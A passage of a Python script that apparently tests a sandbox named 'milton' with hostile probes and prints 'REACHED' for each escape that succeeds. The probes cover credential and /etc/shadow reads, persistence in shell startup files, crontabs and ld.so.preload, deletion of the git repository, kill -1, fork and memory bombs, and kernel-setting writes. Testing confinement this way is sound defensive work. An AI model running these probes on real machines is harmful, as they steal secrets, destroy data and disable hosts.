# --- the repository ---------------------------------------------------------------------------

def a_objects():
    for path in glob.glob(REPO + "/.git/objects/??/*"):
        each(overwrite(path))


def a_refs():
    each(*[overwrite(f"{REPO}/.git/{name}", b"0" * 40 + b"\n")
           for name in ("refs/heads/main", "HEAD", "ORIG_HEAD", "packed-refs", "index")])


def a_attributes():
    each(append(REPO + "/.git/info/attributes", "*.py -diff\n"),
         append(REPO + "/.git/info/exclude"),
         append(REPO + "/.git/objects/info/alternates", "/tmp\n"),
         append(REPO + "/.git/info/grafts"))


def a_git_commands():
    print(sh(f"cd {REPO} && git config --global user.name pwn; git config user.name pwn; "
             "git config user.email pwn; git commit -qam pwn; git tag pwn; git branch -f pwn; "
             "git update-ref refs/heads/main HEAD~0; git stash; git gc -q --prune=now; git worktree add ../pwn"))


def a_remove_git():
    shutil.rmtree(REPO + "/.git")


def a_remove_checkout():
    shutil.rmtree(REPO, ignore_errors=True)


def a_move_checkout():
    each(lambda: os.rename(REPO, REPO + "-moved"), lambda: os.rename(REPO + "/.git", REPO + "/git"))


def a_replace_source():
    each(overwrite(REPO + "/src/pkg/m.py"), overwrite(REPO + "/attack.py"),
         overwrite(REPO + "/README.md"))


def a_virtual_environment():
    each(*[overwrite(path) for path in glob.glob(REPO + "/.venv/**", recursive=True)
           if os.path.isfile(path)])
    each(append(REPO + "/.venv/lib/pwn.pth", "import os\n"))


def a_installed_packages():
    import sysconfig
    for folder in {sysconfig.get_paths()["purelib"], sysconfig.get_paths()["stdlib"]}:
        each(append(folder + "/sitecustomize.py", "# pwn\n"))
    try:
        import pytest
    except ImportError:
        return
    each(overwrite(pytest.__file__))


def a_ignored_files():
    each(overwrite(REPO + "/.env"), overwrite(REPO + "/local/notes"),
         lambda: shutil.rmtree(REPO + "/local"))


# --- the home folder and the rest of the machine's files ----------------------------------------

def a_start_files():
    each(*[append(f"{HOME}/{name}") for name in (
        ".bashrc", ".profile", ".zshenv", ".gitconfig", ".ssh/authorized_keys", ".ssh/config",
        ".config/autostart/pwn.desktop", ".config/systemd/user/pwn.service",
        ".config/milton/policy.toml", ".local/bin/ls", ".config/git/config", ".pdbrc")])


def a_hard_link():
    def link(source, name):
        def step():
            os.link(source, f"{REPO}/{name}")
            append(f"{REPO}/{name}")()
        return step
    each(link(OUTSIDE, "l1"), link(HOME + "/.bashrc", "l2"), link(REPO + "/.git/config", "l3"),
         link(f"{REPO}/.git/HEAD", "l4"))


def a_rename_over():
    open(REPO + "/new", "w").write("pwn\n")
    each(lambda: os.replace(REPO + "/new", OUTSIDE),
         lambda: os.replace(REPO + "/new", REPO + "/.git/config"))


def a_links_in_parents():
    # The checkout's own folders become links that lead out.
    each(lambda: shutil.rmtree(REPO + "/src"),
         lambda: os.symlink(os.path.dirname(OUTSIDE), REPO + "/src"),
         append(REPO + "/src/file"), lambda: os.truncate(REPO + "/src/file", 0))


def a_change_attributes():
    each(lambda: os.chmod(OUTSIDE, 0o777), lambda: os.chown(OUTSIDE, 65533, 65533),
         lambda: os.truncate(OUTSIDE, 0), lambda: os.unlink(OUTSIDE),
         lambda: os.mkdir(os.path.dirname(OUTSIDE) + "/made"),
         lambda: os.chmod(HOME, 0o777), lambda: os.chmod(REPO, 0o777),
         lambda: os.setxattr(REPO + "/README.md", "user.pwn", b"1"),
         lambda: os.utime(REPO + "/README.md", (1, 1)))


def a_shared_folders():
    each(*[append(f"{folder}/{TAG}-left") for folder in (
        "/tmp", "/var/tmp", "/dev/shm", "/run", "/run/lock", "/var/lib", "/home", "/srv", "/mnt",
        "/opt", "/usr/local/bin", "/etc", "/")])


def a_through_proc():
    for root in glob.glob("/proc/*/root") + glob.glob("/proc/*/cwd") + ["/proc/self/root/.."]:
        each(append(root + OUTSIDE), show(root + OUTSIDE))
    for folder in glob.glob("/proc/[0-9]*/fd/*"):
        each(append(f"{folder}/..{OUTSIDE}"), append(f"{folder}/outside/file"))


def a_climb():
    each(lambda: os.mkdir("/tmp/jail"), lambda: os.chroot("/tmp/jail"))
    for _ in range(64):
        os.chdir("..")
    each(append("." + OUTSIDE), append("old" + OUTSIDE), append("layer1/src/pkg/m.py"),
         append("scratch/x"))


def a_file_handle():
    # A handle of the root folder, opened without a path.
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0), 136)
    number = ctypes.c_int()
    for place in ("/usr", REPO, "/tmp"):
        syscall(303, -100, place.encode(), handle, ctypes.byref(number), 0)
        mount = os.open(place, os.O_RDONLY)
        for inode in (None, 2):
            if inode:
                handle = ctypes.create_string_buffer(struct.pack("IiII", 8, 1, inode, 0), 136)
            result, _ = syscall(304, mount, handle, os.O_RDONLY)
            if result >= 0:
                print("REACHED by handle", os.listdir(result))


def a_overlay_marks():
    each(lambda: os.setxattr(REPO + "/src", "user.overlay.redirect", b"/../../outside"),
         lambda: os.setxattr(REPO + "/src", "user.overlay.opaque", b"y"),
         lambda: os.setxattr(REPO + "/src", "trusted.overlay.redirect", b"/outside"),
         lambda: print(os.listdir(REPO + "/src")),
         append(REPO + "/src/file"))


# --- mounts and name spaces -------------------------------------------------------------------

def a_mounts():
    # A folder of its own first: where that can be mounted on, nothing of the machine is tried.
    os.makedirs("/tmp/" + TAG, exist_ok=True)
    if libc.mount(b"tmpfs", b"/tmp/" + TAG.encode(), b"tmpfs", 0, None) == 0:
        libc.umount2(b"/tmp/" + TAG.encode(), 2)
        print("REACHED mount")
        return
    for source, target, kind, flags in (
            (b"/usr", REPO.encode(), b"none", 4096), (b"tmpfs", b"/tmp", b"tmpfs", 0),
            (b"none", b"/", b"none", 32 | 4096), (b"/dev/vda", b"/mnt", b"ext4", 0),
            (b"proc", b"/mnt", b"proc", 0), (b"sysfs", b"/sys", b"sysfs", 0),
            (b"cgroup2", b"/mnt", b"cgroup2", 0), (b"none", b"/proc", b"none", 32 | 4096)):
        if libc.mount(source, target, kind, flags, None) == 0:
            print("REACHED mount", source, target)
    if libc.umount2(REPO.encode(), 2) == 0 or libc.umount2(b"/proc/sys", 2) == 0:
        print("REACHED umount")


def a_new_mounts():
    calls = {"open_tree": (428, -100, REPO.encode(), 1), "move_mount": (429, -100, b"/none", -100, b"/none", 0),
             "fsopen": (430, b"tmpfs", 0), "fspick": (433, -100, b"/", 0),
             "mount_setattr": (442, -100, b"/", 0, ctypes.create_string_buffer(32), 32),
             "open_tree_attr": (467, -100, REPO.encode(), 1, ctypes.create_string_buffer(32), 32),
             "pivot_root": (155, b"/none", b"/none")}
    for name, call in calls.items():
        result, number = syscall(*call)
        if result >= 0 or number == errno.ENOENT:
            print("REACHED", name)
        print(name, errno.errorcode.get(number))


def a_name_spaces():
    flags = {"user": 0x10000000, "mnt": 0x20000, "pid": 0x20000000, "net": 0x40000000,
             "ipc": 0x8000000, "uts": 0x4000000, "cgroup": 0x2000000, "time": 0x80}
    for name, flag in flags.items():
        if syscall(272, flag)[0] == 0:
            print("REACHED unshare", name)
        for more in (0, 0x10000000):
            result, _ = syscall(56, flag & ~0xff | more | signal.SIGCHLD, 0, 0, 0, 0)
            if result == 0:
                os._exit(0)
            if result > 0 and (flag & ~0xff or more):
                print("REACHED clone", name)
    arguments = ctypes.create_string_buffer(struct.pack("8Q", 0x10000000, 0, 0, 0, signal.SIGCHLD, 0, 0, 0))
    result, _ = syscall(435, arguments, 64)
    if result == 0:
        os._exit(0)
    if result > 0:
        print("REACHED clone3")
    for name in os.listdir("/proc/1/ns"):
        with contextlib.suppress(OSError):
            if syscall(308, os.open("/proc/1/ns/" + name, os.O_RDONLY), 0)[0] == 0:
                print("REACHED setns", name)
    print(sh("unshare -Urm true && echo REACHED nested"))


def a_nested_user():
    print(sh("unshare -Urm true && echo REACHED nested"))


# --- inter-process communication -----------------------------------------------------------------

def a_message_queue():
    print("mq", syscall(240, b"milton-hostile-" + TAG.encode(), os.O_CREAT | os.O_RDWR, 0o666, None))


def a_system_v():
    print(syscall(64, 0x4D494C55, 1, 0o1666), syscall(68, 0x4D494C56, 0o1666))


def a_unix_datagram():
    for path in args:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
        each(lambda: s.sendto(b"pwn", path))


def a_abstract_datagram():
    s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    s.sendto(b"pwn", "\0" + args[0])


def a_every_socket():
    """Connects to every socket that is in sight."""
    for path in sh("find / -path /proc -prune -o -type s -print").splitlines():
        if not os.path.exists(path):
            continue
        print("a socket", path)
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
            try:
                s = socket.socket(socket.AF_UNIX, kind)
                s.connect(path)
                s.send(b"pwn")
                print("REACHED", path)
            except OSError as error:
                print(error)


def a_fifo():
    for path in args:
        each(lambda: os.write(os.open(path, os.O_WRONLY | os.O_NONBLOCK), b"pwn"))


# --- the network ---------------------------------------------------------------------------------

def a_tcp6():
    s = socket.create_connection(("::1", int(args[0])), 2)
    s.send(b"pwn")


def a_every_address():
    addresses = set(args[1:]) | {"169.254.169.254", "192.0.2.1", "10.0.2.2", "172.17.0.1", "8.8.8.8",
                                 "255.255.255.255", "224.0.0.1", "2001:db8::1", "fe80::1%lo"}
    for address in sorted(addresses):
        try:
            socket.create_connection((address, int(args[0])), 1).send(b"pwn")
            print("REACHED", address)
        except OSError as error:
            print(address, error)
        with contextlib.suppress(OSError):
            family = socket.AF_INET6 if ":" in address else socket.AF_INET
            s = socket.socket(family, socket.SOCK_DGRAM)
            s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            s.sendto(b"pwn", (address, int(args[0])))
            print("REACHED by datagram", address)
    try:
        print("REACHED by name", socket.getaddrinfo("example.com", 80))
    except OSError as error:
        print(error)


def a_raw_sockets():
    for name, call in {
            "raw": (socket.AF_INET, socket.SOCK_RAW, 1), "packet": (17, socket.SOCK_RAW, 768),
            "ping": (socket.AF_INET, socket.SOCK_DGRAM, 1), "vsock": (40, socket.SOCK_STREAM, 0),
            "alg": (38, socket.SOCK_SEQPACKET, 0), "bluetooth": (31, socket.SOCK_RAW, 0),
            "can": (29, socket.SOCK_RAW, 1), "tipc": (30, socket.SOCK_STREAM, 0),
            "xdp": (44, socket.SOCK_RAW, 0), "key": (15, socket.SOCK_RAW, 2)}.items():
        try:
            socket.socket(*call)
            print("REACHED", name)
        except OSError as error:
            print(name, error)


def a_vsock():
    s = socket.socket(40, socket.SOCK_STREAM)
    for context in (0, 1, 2):
        each(lambda: s.connect((context, int(args[0]))))
    print("REACHED vsock")


def a_netlink():
    # A new address and a route of the own name space would need a capability.
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    message = struct.pack("IHHIIBBBBI", 24, 20, 0x605, 1, 0, 2, 24, 0, 0, 1)
    s.send(message)
    s.settimeout(1)
    answer = s.recv(4096)
    if struct.unpack("i", answer[16:20])[0] == 0:
        print("REACHED netlink")
    for family in range(1, 23):
        with contextlib.suppress(OSError):
            socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, family).bind((0, 0xffffffff))


# --- secrets ---------------------------------------------------------------------------------------

def a_read_home():
    each(*[show(f"{HOME}/{name}") for name in (
        ".ssh/id_rsa", ".aws/credentials", ".netrc", ".git-credentials", ".bash_history", ".npmrc",
        ".pypirc", ".docker/config.json", ".config/gh/hosts.yml", ".cargo/credentials.toml",
        ".gnupg/private", ".kube/config", ".rye/credentials",
        ".local/share/uv/credentials/credentials.toml", ".outside-secret", "outside/file")])


def a_read_machine():
    each(*[show(path) for path in (
        "/etc/shadow", "/etc/gshadow", "/etc/sudoers", "/etc/ssh/ssh_host_ed25519_key",
        "/root/.bashrc", "/root/.ssh/id_rsa", "/var/log/syslog", "/proc/kcore", "/proc/kmsg")])
    for path in ("/etc/shadow", "/proc/kcore", "/proc/kmsg", "/dev/kmsg"):
        with contextlib.suppress(OSError):
            os.open(path, os.O_RDONLY | os.O_NONBLOCK)
            print("REACHED", path)
    for path in ("/var/log", "/sys/class", "/boot"):
        if os.path.isdir(path) and os.listdir(path):
            print("REACHED", path)


def a_read_paths():
    each(*[show(path) for path in args])


def a_read_everything():
    """Looks through the files that can be read below some folders."""
    for top in (REPO, HOME, "/tmp", "/var", "/run", "/dev/shm", "/home", "/root", "/srv", "/mnt"):
        left = 2000
        for folder, _, files in os.walk(top):
            left -= 1 + len(files)
            if left < 0:
                break
            for name in files:
                with contextlib.suppress(OSError):
                    path = os.path.join(folder, name)
                    if os.path.getsize(path) < 100_000:
                        data = open(path, "rb").read()
                        if b"canary" in data and not path.endswith("attack.py"):
                            print(path, data.decode(errors="replace"))


def a_git_secrets():
    print(sh(f"cd {REPO} && git config --list --show-origin; git remote -v; cat .git/config"))


def a_environments():
    for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/task/*/environ"):
        each(show(path))
    print(sorted(os.environ.items()))


def a_descriptors():
    for path in glob.glob("/proc/[0-9]*/fd/*"):
        with contextlib.suppress(OSError):
            print(path, os.readlink(path))
    for number in range(3, 1024):
        with contextlib.suppress(OSError):
            kind = os.fstat(number)
            print("REACHED descriptor", number, kind)


# --- processes ---------------------------------------------------------------------------------------

def a_kill_everyone():
    if confined():
        if args:
            each(lambda: os.kill(int(args[0]), signal.SIGKILL))
        os.kill(-1, signal.SIGKILL)
        time.sleep(1)


def a_kill_first():
    if confined():
        for number in sorted(signal.valid_signals()):
            each(lambda: os.kill(1, number))
        each(lambda: signal.pidfd_send_signal(os.pidfd_open(1), signal.SIGKILL))
        for thread in range(1, 20):
            syscall(234, 1, thread, signal.SIGKILL)


def a_starve_first():
    """Takes from the first process what it needs to report."""
    if confined():
        for kind in (resource.RLIMIT_NOFILE, resource.RLIMIT_AS, resource.RLIMIT_CPU,
                     resource.RLIMIT_FSIZE, resource.RLIMIT_NPROC):
            each(lambda: resource.prlimit(1, kind, (0, 0)))
        each(lambda: os.sched_setscheduler(1, os.SCHED_IDLE, os.sched_param(0)),
             lambda: os.setpriority(os.PRIO_PROCESS, 1, 19))
        time.sleep(0.3)


def a_daemon():
    for _ in range(3):
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                signal.signal(signal.SIGTERM, signal.SIG_IGN)
                signal.signal(signal.SIGHUP, signal.SIG_IGN)
                os.closerange(0, 3)
                time.sleep(600)
            os._exit(0)


def a_pipe_held():
    if os.fork() == 0:
        time.sleep(600)
        os._exit(0)


def a_many_sleepers():
    made = 0
    with contextlib.suppress(OSError):
        while made < 2000:
            if os.fork() == 0:
                if made % 2:
                    os.setsid()
                time.sleep(600)
                os._exit(0)
            made += 1
    print("made", made)
    if made == 2000:
        print("REACHED 2000 processes")


def a_thread_bomb():
    made = 0
    event = threading.Event()
    with contextlib.suppress(RuntimeError, MemoryError):
        threading.stack_size(65536)
        while made < 5000:
            threading.Thread(target=event.wait, daemon=True).start()
            made += 1
    print("made", made)
    if made == 5000:
        print("REACHED 5000 threads")
    sys.stdout.flush()
    os._exit(0)


def a_stop_itself():
    os.kill(0, signal.SIGSTOP)
    os.kill(os.getpid(), signal.SIGSTOP)


def a_ignore_signals():
    for number in set(signal.valid_signals()) - {signal.SIGKILL, signal.SIGSTOP}:
        with contextlib.suppress(OSError):
            signal.signal(number, signal.SIG_IGN)
    for _ in range(4):
        os.fork()
    time.sleep(600)


def a_close_and_hang():
    os.closerange(0, 3)
    time.sleep(600)


def a_flood():
    block = b"x" * 4000 + b"\n\x1b]0;pwn\x07\n"
    while True:
        os.write(1, block)


def a_real_time():
    for policy in (os.SCHED_FIFO, os.SCHED_RR):
        try:
            os.sched_setscheduler(0, policy, os.sched_param(1))
            print("REACHED real time")
        except OSError as error:
            print(error)
    for number in (lambda: os.setpriority(os.PRIO_PROCESS, 0, -20), lambda: os.nice(-5)):
        try:
            number()
            print("REACHED priority")
        except OSError as error:
            print(error)


# --- resources ---------------------------------------------------------------------------------------

def a_inodes():
    made = 0
    folder = "/tmp/inodes"
    os.makedirs(folder)
    with contextlib.suppress(OSError):
        while made < 260_000:
            os.close(os.open(f"{folder}/{made}", os.O_CREAT))
            made += 1
    print("made", made)
    if made == 260_000:
        print("REACHED 260000 files")


def a_shared_disk():
    total = 0
    for path in ("/dev/shm/fill", "/var/tmp/fill", HOME + "/fill", "/run/milton/reports/fill"):
        with contextlib.suppress(OSError):
            file = os.open(path, os.O_CREAT | os.O_WRONLY)
            for part in range(8):
                os.posix_fallocate(file, part * 50 << 20, 50 << 20)
                total += 50
    print("MB", total)
    if total > 1100:
        print("REACHED more than the limit")


def a_descriptors_bomb():
    found = []
    with contextlib.suppress(OSError):
        while len(found) < 200_000:
            found.append(os.open("/dev/null", os.O_RDONLY))
    print(len(found))
    if len(found) > 100_000:
        print("REACHED descriptors")


# --- devices, terminals, the kernel ------------------------------------------------------------------

def a_devices():
    for name in ("mem", "port", "kmem", "kvm", "fuse", "loop-control", "loop0", "vda", "sda", "nvme0n1",
                 "console", "tty", "tty0", "tty1", "ttyS0", "snapshot", "rfkill", "uinput", "input/event0",
                 "net/tun", "mapper/control", "vhost-net", "vhost-vsock", "vsock", "userfaultfd", "dri/card0",
                 "hwrng", "watchdog", "cuse", "ptp0", "kmsg"):
        for flags in (os.O_RDONLY, os.O_WRONLY):
            try:
                os.close(os.open("/dev/" + name, flags | os.O_NONBLOCK))
                print("REACHED", name)
            except OSError as error:
                print(name, error)
    print(os.listdir("/dev"), os.listdir("/dev/pts"))


def a_make_devices():
    for name, kind, device in (("blk", stat.S_IFBLK, (254, 0)), ("mem", stat.S_IFCHR, (1, 1)),
                               ("tty", stat.S_IFCHR, (5, 0)), ("kmsg", stat.S_IFCHR, (1, 11))):
        for folder in (REPO, "/tmp", "/dev", HOME):
            try:
                os.mknod(f"{folder}/{name}", 0o666 | kind, os.makedev(*device))
                os.open(f"{folder}/{name}", os.O_RDONLY | os.O_NONBLOCK)
                print("REACHED", folder, name)
            except OSError as error:
                print(error)


def a_type_into_terminal():
    for path in ["/dev/tty", "/dev/console"] + glob.glob("/dev/pts/[0-9]*") + args:
        with contextlib.suppress(OSError):
            terminal = os.open(path, os.O_RDWR | os.O_NOCTTY)
            os.write(terminal, b"PWN-TTY\n")
            print("REACHED", path)
    for number in range(3):
        for request, value in ((0x5412, b"x"), (0x541C, b"\x03")):
            with contextlib.suppress(OSError):
                fcntl.ioctl(number, request, value)
                print("REACHED input of", number)


def a_settings():
    for path, value in (("/proc/sys/kernel/core_pattern", "core"), ("/proc/sysrq-trigger", "h"),
                        ("/proc/sys/kernel/modprobe", "/tmp/x"), ("/proc/sys/kernel/hostname", "pwn"),
                        ("/proc/sys/vm/drop_caches", "1"), ("/proc/sys/kernel/pid_max", "400000"),
                        ("/proc/sys/user/max_user_namespaces", "9"), ("/proc/self/oom_score_adj", "-1"),
                        ("/proc/1/oom_score_adj", "1"), ("/proc/sys/net/ipv4/ip_forward", "1"),
                        ("/proc/sys/fs/binfmt_misc/register", ":x:E::pwn::/tmp/x:"),
                        ("/sys/kernel/uevent_helper", "/tmp/x"), ("/sys/power/state", "x"),
                        ("/proc/self/uid_map", "0 0 1"), ("/proc/self/loginuid", "0"),
                        ("/proc/1/mem", "x"), ("/proc/1/clear_refs", "1"), ("/proc/1/comm", "pwn")):
        try:
            with open(path, "w") as file:
                file.write(value)
            print("REACHED", path)
        except OSError as error:
            print(path, error)


def a_control_groups():
    print(sh("mkdir -p /tmp/cg; mount -t cgroup -o rdma cgroup /tmp/cg && echo REACHED cgroup; "
             "mount -t cgroup2 none /tmp/cg && echo REACHED cgroup2; "
             "echo /tmp/x > /tmp/cg/release_agent && test -s /proc/self/nothing; ls /sys/fs/cgroup"))
    for path in glob.glob("/sys/fs/cgroup/**", recursive=True):
        if os.path.isfile(path) and os.access(path, os.W_OK):
            print("REACHED", path)


def a_privileged_calls():
    """What root could do outside; each with an argument that does no harm."""
    calls = {"reboot": (169, 0, 0, 0, 0), "sethostname": (170, b"pwn", 3),
             "setdomainname": (171, b"pwn", 3), "swapon": (167, b"/tmp/none", 0), "acct": (163, b"/tmp/none"),
             "init_module": (175, b"", 0, b""), "finit_module": (313, -1, b"", 0), "iopl": (172, 3),
             "ioperm": (173, 0x80, 1, 1), "chroot": (161, b"/"), "quotactl": (179, 0, 0, 0, 0),
             "kexec_load": (246, 0, 0, 0, 0), "syslog": (103, 3, ctypes.create_string_buffer(64), 64),
             "vhangup": (153,), "setns": (308, -1, 0), "lookup": (303, -1, b"", 0, 0, 0)}
    for name, call in calls.items():
        result, number = syscall(*call)
        print(name, errno.errorcode.get(number))
        if result >= 0:
            print("REACHED", name)
    for step in (lambda: os.setuid(1 if os.getuid() != 1 else 2), lambda: os.setgroups([0]), lambda: os.setgid(5)):
        try:
            step()
            print("REACHED another user")
        except OSError as error:
            print(error)
    for request in (time.CLOCK_REALTIME,):
        try:
            time.clock_settime(request, time.time())
            print("REACHED clock")
        except OSError as error:
            print(error)


def a_surface():
    """Which deep calls of the kernel are there at all."""
    def there(result, number):
        return result >= 0 or number not in (errno.EPERM, errno.ENOSYS, errno.EACCES)
    attributes = ctypes.create_string_buffer(struct.pack("IIQ", 1, 128, 0), 128)
    calls = {"io_uring": (425, 1, ctypes.create_string_buffer(120)), "keyctl": (250, 0, -3, 0),
             "add_key": (248, b"user", b"x", b"x", 1, -3), "request_key": (249, b"user", b"x", 0, -3),
             "bpf": (321, 0, ctypes.create_string_buffer(128), 128), "perf_event_open": (298, attributes, 0, -1, -1, 0),
             "userfaultfd": (323, 1), "ptrace": (101, 0, 0, 0, 0), "unshare": (272, 0x10000000),
             "kcmp": (312, os.getpid(), os.getpid(), 0, 0, 0), "memfd_create": (319, b"x", 0),
             "process_vm_readv": (310, 1, 0, 0, 0, 0, 0), "fanotify_init": (300, 0x200, 0),
             "open_by_handle_at": (304, -1, 0, 0), "modify_ldt": (154, 0, 0, 0),
             "process_madvise": (440, -1, 0, 0, 0, 0), "move_pages": (279, 0, 0, 0, 0, 0, 0)}
    for name, call in calls.items():
        if there(*syscall(*call)):
            print("SURFACE", name)
    for name, family in {"AF_VSOCK": 40, "AF_NETLINK": 16, "AF_INET": 2, "AF_UNIX": 1, "AF_ALG": 38,
                         "AF_PACKET": 17, "AF_KEY": 15, "AF_RDS": 21, "AF_TIPC": 30, "AF_CAN": 29}.items():
        with contextlib.suppress(OSError):
            socket.socket(family, socket.SOCK_STREAM if family != 16 else socket.SOCK_RAW)
            print("SURFACE", name)


def a_other_call_tables():
    """The 32 bit and x32 ways to the same calls."""
    result, number = syscall(0x40000000 + 39)
    if result >= 0:
        print("REACHED x32")
    print(errno.errorcode.get(number))
    child = os.fork()
    if child == 0:
        # mov eax, 20 (getpid); int 0x80; ret
        code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        code.write(b"\xb8\x14\x00\x00\x00\xcd\x80\xc3")
        address = ctypes.addressof(ctypes.c_char.from_buffer(code))
        found = ctypes.CFUNCTYPE(ctypes.c_int)(address)()
        print("REACHED int 0x80" if found > 0 else found, flush=True)
        os._exit(0)
    print("child", os.waitpid(child, 0)[1])


def a_own_filter():
    """A filter of its own that hands calls to itself."""
    libc.prctl(38, 1, 0, 0, 0)
    program = struct.pack("HBBI", 0x06, 0, 0, 0x7FC00000)
    buffer = ctypes.create_string_buffer(program)
    header = ctypes.create_string_buffer(struct.pack("HxxxxxxP", 1, ctypes.addressof(buffer)))
    result, number = syscall(317, 1, 8, header)
    print(result, errno.errorcode.get(number))
    if result >= 0:
        print("REACHED a listener")


def a_other_memory():
    victims = [1, os.getppid()] + [int(a) for a in args]
    for pid in victims:
        buffer = ctypes.create_string_buffer(64)
        local = struct.pack("PN", ctypes.addressof(buffer), 8)
        for number in (310, 311):
            result, _ = syscall(number, pid, ctypes.create_string_buffer(local), 1,
                                ctypes.create_string_buffer(local), 1, 0)
            if result > 0:
                print("REACHED memory of", pid)
        for request in (16, 0x4206):
            if syscall(101, request, pid, 0, 0)[0] == 0:
                print("REACHED trace of", pid)
        for name in ("mem", "maps", "environ", "auxv", "syscall", "stack"):
            with contextlib.suppress(OSError):
                if open(f"/proc/{pid}/{name}", "rb").read(8):
                    print("REACHED", pid, name)
        for name in ("mem",):
            with contextlib.suppress(OSError):
                open(f"/proc/{pid}/{name}", "r+b")
                print("REACHED write", pid, name)
        with contextlib.suppress(OSError):
            found = os.pidfd_open(pid)
            for number in range(16):
                if syscall(438, found, number, 0)[0] >= 0:
                    print("REACHED descriptor of", pid)


def a_programs_of_others():
    """Writes into the images of running programs, milton's among them."""
    for path in glob.glob("/proc/*/exe") + [sys.executable, "/bin/sh", "/usr/bin/env"] + args:
        try:
            with open(path, "r+b") as file:
                print("REACHED", path)
                file.write(b"")
        except OSError as error:
            print(path, error)


def a_set_user_id():
    for path in glob.glob("/usr/bin/*") + glob.glob("/usr/sbin/*"):
        with contextlib.suppress(OSError):
            if os.stat(path).st_mode & 0o6000 and os.statvfs(path).f_flag & os.ST_NOSUID == 0:
                print("REACHED", path)
    print(sh("echo | su -c 'echo REACHED' nobody; echo | su -c 'echo REACHED'; sudo -n echo REACHED; "
             f"mkdir -p /tmp/{TAG}; mount -t tmpfs x /tmp/{TAG} && umount /tmp/{TAG} && echo REACHED mount; "
             "echo | newgrp root; chsh -s /bin/sh"))


def a_later_programs():
    """Puts things where programs that start later would find them."""
    each(append("/etc/ld.so.preload"), append("/etc/profile.d/pwn.sh"),
         append(HOME + "/.config/environment.d/pwn.conf", "LD_PRELOAD=/tmp/x\n"))
    for folder in os.environ["PATH"].split(":") + ["/usr/local/bin", HOME + "/bin"]:
        each(append(folder + "/git-pwn"), overwrite(folder + "/milton"))


def a_schedules():
    print(sh("echo '* * * * * id' | crontab - && echo REACHED; echo id | at now && echo REACHED; "
             "systemd-run --user id && echo REACHED; systemctl --user daemon-reload && echo REACHED; "
             "loginctl enable-linger && echo REACHED; dbus-send --system --print-reply "
             "--dest=org.freedesktop.DBus / org.freedesktop.DBus.ListNames && echo REACHED"))
    each(append("/var/spool/cron/crontabs/root"), append("/etc/cron.d/pwn"), append("/var/spool/at/x"))


# --- milton's own things -----------------------------------------------------------------------------

def a_state():
    for folder in args + [HOME + "/.local/state/milton", "/run/milton"]:
        for path in glob.glob(folder + "/**", recursive=True):
            if os.path.isfile(path):
                each(overwrite(path))
        shutil.rmtree(folder, ignore_errors=True)
    each(append("/run/milton/support/conftest.py"), append("/run/milton/x"))


def a_big_report():
    with open(os.environ["MILTON_JUNIT_XML"], "wb") as file:
        file.write(b"<testsuite>")
        block = b"<testcase name='x'/>" * 52_000
        for _ in range(1000):
            file.write(block)


def a_report_link():
    os.symlink(OUTSIDE, os.environ["MILTON_JUNIT_XML"])


def a_report_hard_link():
    each(lambda: os.link("/proc/1/environ", os.environ["MILTON_JUNIT_XML"]),
         lambda: os.link("/etc/passwd", os.environ["MILTON_JUNIT_XML"]))


def a_report_pipe():
    os.mkfifo(os.environ["MILTON_JUNIT_XML"])


def a_report_folder():
    path = os.environ["MILTON_JUNIT_XML"]
    os.makedirs(path + "/x")
    each(lambda: os.rename(os.path.dirname(path), "/tmp/reports"))


def a_hostile_names():
    for name in ("\x1b]0;pwn\x07", "a\nb", "\u202egnp.exe", "x" * 255, "\udcff\udcfe", "-rf", "\r"):
        each(append(f"{REPO}/{name}"))
    print("\x1b]0;pwn\x07\x1b[2J\x1b[31m\u202e")


def a_deep_folders():
    os.chdir(REPO)
    for _ in range(3000):
        os.mkdir("d" * 100)
        os.chdir("d" * 100)


def a_evidence_flood():
    os.makedirs(REPO + "/many")
    for number in range(20_000):
        os.close(os.open(f"{REPO}/many/{number}", os.O_CREAT))
    for number in range(3000):
        with contextlib.suppress(OSError):
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.setblocking(False)
            s.connect((f"10.1.{number >> 8}.{number & 255}", 9))


def a_memory_of_all():
    """More than all may hold together, each process below its own limit."""
    if not confined():
        return
    ended, told = os.pipe()
    for _ in range(4):
        if os.fork() == 0:
            held = []
            for _ in range(40):
                held.append(bytearray(b"x") * (64 << 20))
            os.write(told, b"x")
            time.sleep(600)
    for _ in range(4):
        os.read(ended, 1)
    # Long enough for whoever looks now and then.
    time.sleep(2)
    print("REACHED 10 GB")


def a_unmapped_memory():
    """Memory that belongs to no process's own pages: files that have no name."""
    if not confined():
        return
    held, total = [], 0
    for _ in range(12):
        file = os.memfd_create("x")
        held.append(file)
        with contextlib.suppress(OSError):
            for _ in range(900):
                total += os.write(file, b"x" * (1 << 20))
        if total > 9 << 30:
            break
    time.sleep(1)
    print("GB", total >> 30)
    if total > 9 << 30:
        print("REACHED more than the limit")


main()
